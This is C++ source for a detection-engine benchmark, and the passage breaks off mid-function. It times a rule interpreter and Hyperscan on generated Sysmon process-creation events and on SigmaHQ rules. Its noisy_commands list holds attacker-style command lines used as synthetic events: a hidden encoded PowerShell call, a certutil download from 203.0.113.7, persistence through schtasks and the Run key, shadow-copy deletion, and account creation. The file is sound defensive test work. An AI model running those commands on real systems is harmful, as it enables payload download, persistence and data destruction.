// The interpreter's rows: ringward_match over a generated Sysmon-like set.
// The content is bench/generator's (every operator the process_start v3
// fields allow, regex among them, one to six criteria per instance), as
// build 7.14.18600 loads it; the events come from the same vocabulary
// (generate_event), so that some match and most do not, as on an endpoint.
// Matching and non-matching events are timed apart: a match costs the
// output, a miss usually stops at an instance's first criterion.
//
// Then the SigmaHQ rows: the process_creation rules of a Sigma checkout
// imported in-process, at 1x, 4x and 10x (the set repeated with renamed
// literals), over the checkout's regression events and over generated
// Sysmon-like events: ringward_match with its index and every instance in
// turn, and Hyperscan (when the bench was built with it) scanning the same
// events' string inputs for the same literals, globs and regexes, one
// database per field.
#include "match_rows.hpp"

#include <fmt/format.h>

#include <algorithm>
#include <chrono>
#include <cstring>
#include <map>
#include <memory>
#include <span>

#include <google/protobuf/text_format.h>

#include <set>

#include "alloc_counter.hpp"
#include "generator.hpp"
#include "markdown.hpp"
#include "ringward/compile.hpp"
#include "ringward/events.hpp"
#include "ringward/file.hpp"
#include "ringward/loader.h"
#include "ringward/match.h"
#include "ringward/match_setup.hpp"
#include "ringward/sigma.hpp"
#include "ringward/sign.hpp"
#include "ringward/validate.hpp"
#include "timing.hpp"

#ifdef RINGWARD_BENCH_HYPERSCAN
#include <hs.h>
#endif

namespace ringward::bench {
namespace {

namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;

constexpr uint32_t kTemplateId = 1;  // process_start v3, Sysmon's event 1
constexpr uint32_t kTemplateVersion = 3;
constexpr uint64_t kGeneratedInstances = 2000;
constexpr uint64_t kCalibrationEvents = 2000;
constexpr uint64_t kEvents = 10000;
constexpr uint64_t kNow = 1'800'000'000;

// Keeps the counter's probe allocation from being optimized away.
volatile uint64_t* volatile allocation_sink = nullptr;

// Events as the interpreter takes them, with the storage they point into.
struct EventSet {
    std::vector<std::vector<EventInput>> values;
    std::vector<std::vector<ringward_input>> inputs;
    std::vector<ringward_event> events;
};

void add_event(EventSet& set, const TemplateType& type, std::vector<EventInput> values) {
    std::vector<ringward_input> inputs(values.size());
    for (size_t i = 0; i < values.size(); ++i) {
        ringward_input& in = inputs[i];
        in.type = static_cast<uint32_t>(type.fields[i].type);
        in.present = values[i].present ? 1 : 0;
        in.number = values[i].number;
        in.data = reinterpret_cast<const uint8_t*>(values[i].bytes.data());
        in.size = values[i].bytes.size();
        std::memcpy(in.address, values[i].address.data(), 16);
    }
    set.values.push_back(std::move(values));
    set.inputs.push_back(std::move(inputs));
}

void finish(EventSet& set) {
    set.events.clear();
    for (const std::vector<ringward_input>& inputs : set.inputs) {
        set.events.push_back(
            ringward_event{kTemplateId, kTemplateVersion, inputs.data(), inputs.size()});
    }
}

struct Matcher {
    const ringward_loaded* loaded = nullptr;
    ringward_match_plan plan{};
    std::vector<uint64_t> scratch;
    std::vector<uint32_t> instances;
    std::vector<uint32_t> rules;
    uint64_t most_steps = 0;
    // The ids the last event matched.
    std::span<const uint32_t> matched;

    // The index's memory, when built: what it keeps, moved out of the
    // build's memory (plan.index_bytes), as an agent does.
    std::vector<uint64_t> index;
    double index_build_seconds = 0;

    explicit Matcher(const ringward_loaded& content, bool indexed = false) : loaded(&content) {
        if (ringward_match_prepare(loaded, nullptr, &plan) != 0) {
            fmt::print(stderr, "bench: no plan for the interpreter's content\n");
            std::exit(1);
        }
        scratch.resize(plan.scratch_bytes / 8 + 1);
        instances.resize(loaded->instance_count);
        rules.resize(loaded->instance_count);
        if (indexed) {
            const auto start = Clock::now();
            if (ringward::build_index(*loaded, plan, index) != RINGWARD_MATCH_OK) {
                fmt::print(stderr, "bench: the index does not build\n");
                std::exit(1);
            }
            index_build_seconds = std::chrono::duration<double>(Clock::now() - start).count();
        }
    }

    // The instances the event matches; exits on a refusal, which generated
    // events never earn.
    size_t run(const ringward_event& event) {
        ringward_match_result r{};
        r.instances = instances.data();
        r.instance_capacity = instances.size();
        r.rules = rules.data();
        r.rule_capacity = rules.size();
        if (ringward_match(loaded, &plan, &event, scratch.data(), plan.scratch_bytes, &r) !=
            RINGWARD_MATCH_OK) {
            fmt::print(stderr, "bench: ringward_match refused a generated event\n");
            std::exit(1);
        }
        most_steps = std::max(most_steps, r.steps);
        matched = std::span<const uint32_t>(instances.data(), r.instance_count);
        return r.instances_matched;
    }
};

// Content as the agent holds it: validated, signed, loaded as the build.
struct Loaded {
    std::vector<uint8_t> envelope;
    std::vector<ringward_trusted_key> keys;
    std::vector<ringward_template_support> table;
    ringward_loaded loaded{};
};

std::unique_ptr<Loaded> load_content(const v1::ContentFile& content, const ValidationTarget& target,
                                     const SensorManifest& manifest, const SecretKey& key,
                                     bool all_evaluable = true) {
    LoadOptions binary;
    binary.format = InputFormat::binary;
    auto source = parse_content(content.SerializeAsString(), "match-bench.binpb", binary);
    if (!source.ok()) {
        fmt::print(stderr, "bench: the interpreter's content does not load\n");
        return nullptr;
    }
    auto validated = validate_content(*source.value, target);
    if (!validated.ok()) {
        fmt::print(stderr, "bench: the interpreter's content does not validate: {}\n",
                   validated.diagnostics.empty() ? std::string("?")
                                                 : render_text(validated.diagnostics[0], nullptr));
        return nullptr;
    }
    EnvelopePolicy policy;
    policy.sequence = 1;
    policy.not_before = kNow - 3600;
    policy.expires = kNow + 3600;
    auto envelope = sign_envelope(*validated.value, key, policy);
    if (!envelope.ok()) {
        fmt::print(stderr, "bench: the interpreter's content does not sign\n");
        return nullptr;
    }
    auto out = std::make_unique<Loaded>();
    out->envelope = std::move(*envelope.value);
    TrustedKey trusted;
    trusted.key = key.public_key();
    trusted.id = key.id();
    out->keys = to_loader_keys({&trusted, 1});
    out->table = to_loader_table(manifest);
    ringward_loader_config config{};
    config.keys = out->keys.data();
    config.key_count = out->keys.size();
    config.sensor_version = manifest.version->packed();
    config.now = kNow;
    config.templates = out->table.data();
    config.template_count = out->table.size();
    if (ringward_load(&config, out->envelope.data(), out->envelope.size(), &out->loaded) !=
            RINGWARD_OK ||
        (all_evaluable && out->loaded.evaluable_count != out->loaded.instance_count)) {
        fmt::print(stderr, "bench: the loader refused the interpreter's content\n");
        return nullptr;
    }
    return out;
}

// Median events per second over `reps` passes over the events, with the
// slowest and the fastest pass.
using Rate = Timing;  // events per second

Rate rate_of(Matcher& m, const std::vector<ringward_event>& events, int reps) {
    std::vector<double> rates;
    volatile size_t sink = 0;
    for (int i = 0; i < reps; ++i) {
        const auto start = Clock::now();
        for (const ringward_event& e : events) {
            sink = sink + m.run(e);
        }
        const double seconds = std::chrono::duration<double>(Clock::now() - start).count();
        rates.push_back(static_cast<double>(events.size()) / seconds);
    }
    return timing_of(std::move(rates));
}

std::string per_second(double rate) {
    return rate >= 1e6 ? fmt::format("{:.2f} M/s", rate / 1e6)
                       : fmt::format("{:.1f} k/s", rate / 1e3);
}

bool write_section(const std::string& path, const std::string& body,
                   const std::string& name = "match") {
    return write_marked_section(
        path, fmt::format("<!-- bench:{}:begin (written by scripts/bench --markdown) -->", name),
        fmt::format("<!-- bench:{}:end -->", name), body + "\n");
}

// ---------------------------------------------------------------------------
// The SigmaHQ rows.

// Nanoseconds per event: the median of `reps` passes over the events, each
// pass repeating them often enough to last about 50 ms, and the slowest and
// the fastest pass.
using PerEvent = Timing;  // nanoseconds per event

// One pass: the events `rounds` times over, in nanoseconds per event.
template <typename Run>
double pass_ns(size_t count, size_t rounds, const Run& run) {
    const auto start = Clock::now();
    for (size_t r = 0; r < rounds; ++r) {
        for (size_t i = 0; i < count; ++i) {
            run(i);
        }
    }
    const double seconds = std::chrono::duration<double>(Clock::now() - start).count();
    return seconds * 1e9 / static_cast<double>(rounds * count);
}
// How many rounds make a pass of about 50 ms, from one round's time.
size_t rounds_for(size_t count, double once_ns) {
    const double once = once_ns * static_cast<double>(count) * 1e-9;
    return static_cast<size_t>(std::max(1.0, 0.05 / std::max(once, 1e-9)));
}

template <typename Run>
PerEvent time_events(size_t count, int reps, const Run& run) {
    // A first pass long enough counts as one.
    const double once = pass_ns(count, 1, run);
    const size_t rounds = rounds_for(count, once);
    std::vector<double> ns;
    if (rounds == 1) {
        ns.push_back(once);
    }
    while (ns.size() < static_cast<size_t>(reps)) {
        ns.push_back(pass_ns(count, rounds, run));
    }
    return timing_of(std::move(ns));
}

// Two things timed in alternating passes (a, b, a, b, ...) of about 50 ms
// each, so that a slow or fast spell of a shared machine falls on both:
// each one's nanoseconds per event as above, and the ratio a / b of each
// pair, whose median is the comparison (its spread beside it).
struct Paired {
    PerEvent a;
    PerEvent b;
    Timing ratio;
};
template <typename RunA, typename RunB>
Paired time_paired(size_t count, int reps, const RunA& run_a, const RunB& run_b) {
    const size_t rounds_a = rounds_for(count, pass_ns(count, 1, run_a));
    const size_t rounds_b = rounds_for(count, pass_ns(count, 1, run_b));
    std::vector<double> a;
    std::vector<double> b;
    std::vector<double> ratio;
    for (int r = 0; r < reps; ++r) {
        a.push_back(pass_ns(count, rounds_a, run_a));
        b.push_back(pass_ns(count, rounds_b, run_b));
        ratio.push_back(a.back() / b.back());
    }
    return Paired{timing_of(std::move(a)), timing_of(std::move(b)), timing_of(std::move(ratio))};
}

std::string nanoseconds(double ns) {
    return ns >= 1e6   ? fmt::format("{:.2f} ms", ns / 1e6)
           : ns >= 1e3 ? fmt::format("{:.2f} us", ns / 1e3)
                       : fmt::format("{:.0f} ns", ns);
}
std::string timed(const PerEvent& t) {
    return fmt::format("{} ({}, {} - {})", nanoseconds(t.median), per_second(1e9 / t.median),
                       nanoseconds(t.min), nanoseconds(t.max));
}

// A glob's longest run of literal bytes (between '*', '?' and classes, '\'
// escaping the next byte), where renaming inserts its token.
size_t glob_run_start(std::string_view glob) {
    size_t best_start = 0;
    size_t best = 0;
    size_t start = 0;
    size_t length = 0;
    for (size_t i = 0; i < glob.size();) {
        const char c = glob[i];
        if (c == '*' || c == '?' || c == '[') {
            if (c == '[') {
                const size_t end = glob.find(']', i + 2);
                i = end == std::string_view::npos ? glob.size() : end + 1;
            } else {
                ++i;
            }
            start = i;
            length = 0;
            continue;
        }
        i += c == '\\' ? 2 : 1;
        if (++length > best) {
            best = length;
            best_start = start;
        }
    }
    return best_start;
}

// The same value with `token` in its literals: before a plain operand, at
// the start of a glob's longest literal run, and for a regex after its
// leading anchors and flag groups, the rest grouped behind it.
std::string renamed(v1::Operator op, const std::string& value, const std::string& token) {
    if (op == v1::OP_GLOB) {
        const size_t at = glob_run_start(value);
        return value.substr(0, at) + token + value.substr(at);
    }
    if (op == v1::OP_REGEX) {
        size_t at = 0;
        for (;;) {
            if (at < value.size() && value[at] == '^') {
                ++at;
            } else if (value.compare(at, 2, "(?") == 0 && at + 2 < value.size() &&
                       value[at + 2] != ':' && value.find(')', at) != std::string::npos &&
                       value.find(':', at) > value.find(')', at)) {
                at = value.find(')', at) + 1;
            } else {
                break;
            }
        }
        return value.substr(0, at) + token + "(?:" + value.substr(at) + ")";
    }
    return token + value;
}

void rename_criterion(v1::Criterion& c, const std::string& token) {
    switch (c.op()) {
        case v1::OP_EQ:
        case v1::OP_NE:
        case v1::OP_IN:
        case v1::OP_PREFIX:
        case v1::OP_SUFFIX:
        case v1::OP_CONTAINS:
        case v1::OP_GLOB:
        case v1::OP_REGEX:
            break;
        default:
            return;
    }
    for (v1::Value& v : *c.mutable_values()) {
        if (v.kind_case() == v1::Value::kString) {
            v.set_string(renamed(c.op(), v.string(), token));
        }
    }
}

// The set `copies` times: copy k > 0 with ids shifted and "zq<k>x" in every
// string literal of its positive criteria, so that its literals are new
// ones (which real events do not hold, as most of a larger set's literals
// would not); exclusions and negations are kept as they are.
v1::ContentFile scaled(const v1::ContentFile& base, uint32_t copies) {
    v1::ContentFile out = base;
    uint32_t max_instance = 0;
    uint32_t max_rule = 0;
    for (const v1::TemplateInstance& i : base.instances()) {
        max_instance = std::max(max_instance, i.id());
    }
    for (const v1::Rule& r : base.rules()) {
        max_rule = std::max(max_rule, r.id());
    }
    for (uint32_t k = 1; k < copies; ++k) {
        const std::string token = fmt::format("zq{}x", k);
        for (const v1::Rule& r : base.rules()) {
            v1::Rule* copy = out.add_rules();
            *copy = r;
            copy->set_id(r.id() + k * max_rule);
            copy->set_name(r.name() + "-" + token);
        }
        for (const v1::TemplateInstance& i : base.instances()) {
            v1::TemplateInstance* copy = out.add_instances();
            *copy = i;
            copy->set_id(i.id() + k * max_instance);
            copy->set_rule(i.rule() + k * max_rule);
            // The positive criteria only: a renamed exclusion or negation
            // would hold nowhere and make the copy fire more, not less.
            for (v1::Criterion& c : *copy->mutable_criteria()) {
                if (!c.negate()) {
                    rename_criterion(c, token);
                }
            }
        }
    }
    return out;
}

#ifdef RINGWARD_BENCH_HYPERSCAN
// Hyperscan over the same patterns: per string field of process_start, one
// block-mode database of every literal (eq, in, prefix, suffix, contains:
// escaped), glob (as the anchored regex it means) and regex on it, caseless
// where the criterion is, each reported once per scan.
std::string escaped(std::string_view literal) {
    std::string out;
    for (const char ch : literal) {
        const auto c = static_cast<unsigned char>(ch);
        if ((c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) {
            out += ch;
        } else {
            out += fmt::format("\\x{:02x}", c);
        }
    }
    return out;
}
std::string glob_regex(std::string_view glob) {
    std::string out = "^";
    for (size_t i = 0; i < glob.size(); ++i) {
        const char c = glob[i];
        if (c == '*') {
            out += ".*";
        } else if (c == '?') {
            out += ".";
        } else if (c == '\\' && i + 1 < glob.size()) {
            out += escaped(glob.substr(++i, 1));
        } else {
            out += escaped(glob.substr(i, 1));
        }
    }
    return out + "$";
}

int on_hyperscan_match(unsigned, unsigned long long, unsigned long long, unsigned, void* context) {
    ++*static_cast<uint64_t*>(context);
    return 0;
}

struct Hyperscan {
    struct Field {
        uint16_t index = 0;
        hs_database_t* database = nullptr;
    };
    std::vector<Field> fields;
    hs_scratch_t* scratch = nullptr;
    size_t patterns = 0;
    size_t refused = 0;
    double compile_seconds = 0;
    uint64_t matches = 0;

    Hyperscan() = default;
    Hyperscan(const Hyperscan&) = delete;
    Hyperscan& operator=(const Hyperscan&) = delete;
    ~Hyperscan() {
        for (const Field& f : fields) {
            hs_free_database(f.database);
        }
        hs_free_scratch(scratch);
    }

    void scan(const ringward_event& e) {
        for (const Field& f : fields) {
            const ringward_input& in = e.inputs[f.index];
            if (in.present != 0 && in.size > 0) {
                hs_scan(f.database, reinterpret_cast<const char*>(in.data),
                        static_cast<unsigned>(in.size), 0, scratch, on_hyperscan_match, &matches);
            }
        }
    }
};

std::unique_ptr<Hyperscan> build_hyperscan(const v1::ContentFile& content,
                                           const TemplateType& type) {
    auto hs = std::make_unique<Hyperscan>();
    const auto start = Clock::now();
    std::map<uint16_t, std::set<std::pair<std::string, unsigned>>> by_field;
    const auto add = [&](const v1::Criterion& c) {
        uint16_t field = 0;
        while (field < type.fields.size() && type.fields[field].name != c.field()) {
            ++field;
        }
        if (field == type.fields.size() || type.fields[field].type != format::Kind::string) {
            return;
        }
        const unsigned flags = HS_FLAG_SINGLEMATCH | HS_FLAG_ALLOWEMPTY |
                               (c.case_insensitive() ? HS_FLAG_CASELESS : 0);
        for (const v1::Value& v : c.values()) {
            if (v.kind_case() != v1::Value::kString) {
                continue;
            }
            switch (c.op()) {
                case v1::OP_EQ:
                case v1::OP_NE:
                case v1::OP_IN:
                case v1::OP_PREFIX:
                case v1::OP_SUFFIX:
                case v1::OP_CONTAINS:
                    if (!v.string().empty()) {
                        by_field[field].insert({escaped(v.string()), flags});
                    }
                    break;
                case v1::OP_GLOB:
                    by_field[field].insert({glob_regex(v.string()), flags | HS_FLAG_DOTALL});
                    break;
                case v1::OP_REGEX:
                    by_field[field].insert({v.string(), flags});
                    break;
                default:
                    break;
            }
        }
    };
    for (const v1::TemplateInstance& i : content.instances()) {
        for (const v1::Criterion& c : i.criteria()) {
            add(c);
        }
        for (const v1::Exclusion& e : i.exclusions()) {
            for (const v1::Criterion& c : e.criteria()) {
                add(c);
            }
        }
    }
    for (auto& [field, set] : by_field) {
        std::vector<std::pair<std::string, unsigned>> patterns(set.begin(), set.end());
        // A pattern Hyperscan refuses is left out and counted.
        for (;;) {
            std::vector<const char*> expressions;
            std::vector<unsigned> flags;
            std::vector<unsigned> ids;
            for (size_t i = 0; i < patterns.size(); ++i) {
                expressions.push_back(patterns[i].first.c_str());
                flags.push_back(patterns[i].second);
                ids.push_back(static_cast<unsigned>(i));
            }
            hs_database_t* database = nullptr;
            hs_compile_error_t* error = nullptr;
            if (patterns.empty()) {
                break;
            }
            if (hs_compile_multi(expressions.data(), flags.data(), ids.data(),
                                 static_cast<unsigned>(patterns.size()), HS_MODE_BLOCK, nullptr,
                                 &database, &error) == HS_SUCCESS) {
                hs->fields.push_back({field, database});
                hs->patterns += patterns.size();
                break;
            }
            const int bad = error->expression;
            hs_free_compile_error(error);
            if (bad < 0) {
                fmt::print(stderr, "bench: Hyperscan refuses the database of field {}\n", field);
                return nullptr;
            }
            patterns.erase(patterns.begin() + bad);
            ++hs->refused;
        }
    }
    for (const Hyperscan::Field& f : hs->fields) {
        if (hs_alloc_scratch(f.database, &hs->scratch) != HS_SUCCESS) {
            return nullptr;
        }
    }
    hs->compile_seconds = std::chrono::duration<double>(Clock::now() - start).count();
    return hs;
}
#endif

// The process_creation rules of a Sigma checkout, imported as `ringward
// import sigma` would.
struct SigmaSet {
    v1::ContentFile content;
    size_t rules = 0;
    size_t imported = 0;
};

std::optional<SigmaSet> import_process_creation(const fs::path& root, const fs::path& sigma_dir) {
    auto mapping = sigma::load_mapping((root / "examples/sigma/mapping.txtpb").string());
    if (!mapping.ok()) {
        return std::nullopt;
    }
    std::vector<Diagnostic> errors;
    const std::string folder = (sigma_dir / "rules/windows/process_creation").string() + "/";
    std::vector<sigma::RuleSource> sources;
    for (const std::string& file : sigma::collect_rule_files({&folder, 1}, errors)) {
        auto text = read_file(file, 1 << 24);
        if (!text.ok()) {
            return std::nullopt;
        }
        sources.push_back({file, std::move(*text.value)});
    }
    if (!errors.empty() || sources.empty()) {
        return std::nullopt;
    }
    const sigma::ImportResult result = sigma::import_rules(*mapping.value, sources);
    SigmaSet set;
    set.rules = result.rules.size();
    set.imported = result.imported_count();
    if (!google::protobuf::TextFormat::ParseFromString(result.content_text, &set.content)) {
        return std::nullopt;
    }
    return set;
}

// The checkout's regression events of process_creation, mapped to
// process_start v3 through the example mapping.
struct RegressionEvents {
    std::vector<events::TemplateEvent> mapped;
    std::vector<std::vector<ringward_input>> inputs;
    std::vector<ringward_event> events;
    size_t files = 0;
};

bool read_regression_events(const fs::path& root, const fs::path& sigma_dir,
                            const Registry& registry, const ringward_template_support& support,
                            RegressionEvents& out) {
    auto mapping = sigma::load_mapping((root / "examples/sigma/mapping.txtpb").string());
    if (!mapping.ok()) {
        return false;
    }
    auto event_mapping = events::make_event_mapping(*mapping.value, registry);
    const fs::path folder = sigma_dir / "regression_data/rules/windows/process_creation";
    if (!event_mapping.ok() || !fs::is_directory(folder)) {
        return false;
    }
    std::vector<fs::path> files;
    for (const auto& entry : fs::recursive_directory_iterator(folder)) {
        if (entry.is_regular_file() && entry.path().extension() == ".json") {
            files.push_back(entry.path());
        }
    }
    std::sort(files.begin(), files.end());
    for (const fs::path& file : files) {
        auto parsed = events::load_events(file.string(), *event_mapping.value);
        if (!parsed.ok()) {
            continue;
        }
        ++out.files;
        for (const events::Event& e : parsed.value->events) {
            for (const events::TemplateEvent& t : e.mapped) {
                if (t.template_type_id == support.id &&
                    t.template_type_version == support.version) {
                    out.mapped.push_back(t);
                }
            }
        }
    }
    for (const events::TemplateEvent& t : out.mapped) {
        out.inputs.push_back(events::inputs_for(t, support));
    }
    for (const std::vector<ringward_input>& inputs : out.inputs) {
        out.events.push_back(
            ringward_event{support.id, support.version, inputs.data(), inputs.size()});
    }
    return !out.events.empty();
}

// Sysmon-like process creations for the SigmaHQ rows, from a vocabulary of
// ordinary Windows activity written here (services, browsers, Office, shells
// running scripts, updaters), so that almost every event matches nothing,
// as on an endpoint; one in 25 runs an attacker-style command line (also
// written here) so that some do. Numbers come from generate_event.
// SplitMix64, as the generator's: the same seed, the same events.
class Draw {
  public:
    explicit Draw(uint64_t seed) : state_(seed) {}
    uint64_t next() {
        uint64_t z = (state_ += 0x9e3779b97f4a7c15ull);
        z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
        z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
        return z ^ (z >> 31);
    }
    size_t below(size_t n) { return n == 0 ? 0 : static_cast<size_t>(next() % n); }
    bool chance(unsigned percent) { return below(100) < percent; }

  private:
    uint64_t state_;
};

struct Program {
    const char* image;
    const char* original;
    const char* description;
    const char* product;
    const char* company;
    std::vector<const char*> arguments;
};

const std::vector<Program>& ordinary_programs() {
    static const std::vector<Program> programs = {
        {"C:\\Windows\\System32\\svchost.exe",
         "svchost.exe",
         "Host Process for Windows Services",
         "Microsoft Windows Operating System",
         "Microsoft Corporation",
         {"-k netsvcs -p -s Schedule", "-k LocalServiceNetworkRestricted -p", "-k DcomLaunch -p",
          "-k UnistackSvcGroup"}},
        {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
         "chrome.exe",
         "Google Chrome",
         "Google Chrome",
         "Google LLC",
         {"--type=renderer --lang=en-US --renderer-client-id={n} --time-ticks-at-unix-epoch={n}",
          "--type=gpu-process --gpu-preferences={h}", "--type=utility --utility-sub-type=network",
          "https://intranet.example.com/wiki/page{n}"}},
        {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
         "msedge.exe",
         "Microsoft Edge",
         "Microsoft Edge",
         "Microsoft Corporation",
         {"--type=renderer --field-trial-handle={n},{h}",
          "--single-argument https://example.org/"}},
        {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
         "WinWord.exe",
         "Microsoft Word",
         "Microsoft Office",
         "Microsoft Corporation",
         {"/n \"C:\\Users\\{u}\\Documents\\Report {n}.docx\"", "/safe"}},
        {"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
         "Excel.exe",
         "Microsoft Excel",
         "Microsoft Office",
         "Microsoft Corporation",
         {"\"C:\\Users\\{u}\\Documents\\Budget {n}.xlsx\""}},
        {"C:\\Windows\\System32\\RuntimeBroker.exe",
         "RuntimeBroker.exe",
         "Runtime Broker",
         "Microsoft Windows Operating System",
         "Microsoft Corporation",
         {"-Embedding"}},
        {"C:\\Windows\\System32\\backgroundTaskHost.exe",
         "backgroundTaskHost.exe",
         "Background Task Host",
         "Microsoft Windows Operating System",
         "Microsoft Corporation",
         {"-ServerName:BackgroundTaskHost.WebAccountProvider"}},
        {"C:\\Windows\\System32\\SearchProtocolHost.exe",
         "searchprotocolhost.exe",
         "Microsoft Windows Search Protocol Host",
         "Windows Search",
         "Microsoft Corporation",
         {"Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1"}},
        {"C:\\Windows\\System32\\taskhostw.exe",
         "taskhostw.exe",
         "Host Process for Windows Tasks",
         "Microsoft Windows Operating System",
         "Microsoft Corporation",
         {"", "KEYROAMING"}},
        {"C:\\Program Files\\Microsoft VS Code\\Code.exe",
         "electron.exe",
         "Visual Studio Code",
         "Visual Studio Code",
         "Microsoft Corporation",
         {"--type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US",
          "C:\\Users\\{u}\\source\\repos\\project{n}"}},
        {"C:\\Program Files\\Git\\cmd\\git.exe",
         "git.exe",
         "Git for Windows",
         "Git",
         "The Git Development Community",
         {"fetch --all --prune", "status --porcelain", "log -n {n} --oneline"}},
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "PowerShell.EXE",
         "Windows PowerShell",
         "Microsoft Windows Operating System",
         "Microsoft Corporation",
         {"-NoProfile -File C:\\Scripts\\Backup-Share{n}.ps1", "Get-ChildItem C:\\Logs"}},
        {"C:\\Windows\\System32\\msiexec.exe",
         "msiexec.exe",
         "Windows Installer",
         "Windows Installer - Unicode",
         "Microsoft Corporation",
         {"/V", "-Embedding {H}"}},
        {"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
         "Teams.exe",
         "Microsoft Teams",
         "Microsoft Teams",
         "Microsoft Corporation",
         {"--type=renderer --autoplay-policy=no-user-gesture-required", "--system-initiated"}},
        {"C:\\Program Files\\Mozilla Firefox\\firefox.exe",
         "firefox.exe",
         "Firefox",
         "Firefox",
         "Mozilla Corporation",
         {"-contentproc --channel={n} -childID {n} tab"}},
        {"C:\\Windows\\explorer.exe",
         "EXPLORER.EXE",
         "Windows Explorer",
         "Microsoft Windows Operating System",
         "Microsoft Corporation",
         {"", "/factory,{H}"}},
    };
    return programs;
}

// Attacker-style command lines (written for this bench): what a small share
// of real process creations looks like, so that the set has hits.
const std::vector<std::pair<const char*, const char*>>& noisy_commands() {
    static const std::vector<std::pair<const char*, const char*>> commands = {
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA="},
        {"C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all > C:\\Users\\Public\\w.txt"},
        {"C:\\Windows\\System32\\certutil.exe",
         "certutil.exe -urlcache -split -f http://203.0.113.7/a.txt C:\\Users\\Public\\a.exe"},
        {"C:\\Windows\\System32\\rundll32.exe",
         "rundll32.exe C:\\Users\\Public\\helper.dll,DllRegisterServer"},
        {"C:\\Windows\\System32\\schtasks.exe",
         "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute /mo 5"},
        {"C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"},
        {"C:\\Windows\\System32\\reg.exe",
         "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d "
         "C:\\Users\\Public\\u.exe /f"},
        {"C:\\Windows\\System32\\net.exe", "net user backup P4ssw0rd! /add"},
    };
    return commands;
}

std::string hex_digits(Draw& r, size_t n) {
    static const char* const digits = "0123456789ABCDEF";
    std::string out;
    for (size_t i = 0; i < n; ++i) {
        out += digits[r.below(16)];
    }
    return out;
}

std::string filled(std::string_view pattern, Draw& r, const std::string& user) {
    std::string out;
    for (size_t i = 0; i < pattern.size(); ++i) {
        if (pattern.compare(i, 3, "{n}") == 0) {
            out += std::to_string(r.below(100000));
        } else if (pattern.compare(i, 3, "{h}") == 0) {
            out += hex_digits(r, 16);
        } else if (pattern.compare(i, 3, "{H}") == 0) {
            out += "{" + hex_digits(r, 8) + "-" + hex_digits(r, 4) + "-" + hex_digits(r, 4) + "-" +
                   hex_digits(r, 4) + "-" + hex_digits(r, 12) + "}";
        } else if (pattern.compare(i, 3, "{u}") == 0) {
            out += user;
        } else {
            out += pattern[i];
            continue;
        }
        i += 2;
    }
    return out;
}

std::vector<EventInput> sysmon_event(const TemplateType& type, uint64_t seed) {
    Draw r(seed ^ 0x5953u);
    std::vector<EventInput> inputs = generate_event(type, seed);
    const auto& programs = ordinary_programs();
    const std::string user = fmt::format("user{}", r.below(50));
    const Program& p = programs[r.below(programs.size())];
    const Program& parent = programs[r.below(programs.size())];
    std::string image = filled(p.image, r, user);
    std::string command =
        "\"" + image + "\" " + filled(p.arguments[r.below(p.arguments.size())], r, user);
    std::string original = p.original;
    if (r.chance(4)) {
        const auto& noisy = noisy_commands()[r.below(noisy_commands().size())];
        image = noisy.first;
        command = noisy.second;
        original = std::string(image.substr(image.rfind('\\') + 1));
    }
    const std::string parent_image = filled(parent.image, r, user);
    const std::string hash = "SHA256=" + hex_digits(r, 64);
    const std::map<std::string, std::string> values = {
        {"image_path", image},
        {"command_line", command},
        {"parent_image_path", parent_image},
        {"parent_command_line", "\"" + parent_image + "\""},
        {"user_name", r.chance(40) ? "NT AUTHORITY\\SYSTEM" : "CONTOSO\\" + user},
        {"parent_user", "CONTOSO\\" + user},
        {"current_directory",
         r.chance(50) ? "C:\\Windows\\system32\\" : "C:\\Users\\" + user + "\\"},
        {"original_file_name", original},
        {"file_description", p.description},
        {"product", p.product},
        {"company", p.company},
        {"file_version", fmt::format("10.0.{}.{}", 19041 + r.below(4000), r.below(5000))},
        {"logon_id", fmt::format("0x{:x}", 0x3e7 + r.below(1 << 20))},
        {"hashes", hash},
        {"md5", hex_digits(r, 32)},
        {"sha1", hex_digits(r, 40)},
        {"sha256_hex", hex_digits(r, 64)},
        {"imphash", hex_digits(r, 32)},
        {"integrity_level_name", r.chance(30) ? "System" : (r.chance(20) ? "High" : "Medium")},
        {"terminal_session_name", "Console"},
    };
    for (size_t f = 0; f < type.fields.size(); ++f) {
        if (type.fields[f].type == format::Kind::string) {
            const auto it = values.find(type.fields[f].name);
            inputs[f].bytes = it != values.end() ? it->second : std::string();
            inputs[f].present = it != values.end();
        } else {
            inputs[f].present = true;
        }
    }
    return inputs;
}

// One scale of the set, measured.
struct ScaleRow {
    uint32_t copies = 0;
    uint32_t instances = 0;
    size_t index_bytes = 0;
    size_t index_build_bytes = 0;
    size_t blob_bytes = 0;
    double index_build_seconds = 0;
    uint64_t max_steps = 0;
    uint64_t most_steps_indexed = 0;
    uint64_t most_steps_every = 0;
    uint64_t allocations = 0;
    size_t regression_matching = 0;
    size_t generated_matching = 0;
    PerEvent every_regression, indexed_regression, every_generated, indexed_generated;
    bool hyperscan = false;
    size_t hs_patterns = 0;
    size_t hs_refused = 0;
    double hs_compile_seconds = 0;
    PerEvent hs_regression, hs_generated;
    // index / Hyperscan, from passes of the two taken in turn.
    Timing hs_ratio_regression, hs_ratio_generated;
};

bool run_sigma_rows(const fs::path& root, const fs::path& sigma_dir, bool quick,
                    const std::string& markdown_path) {
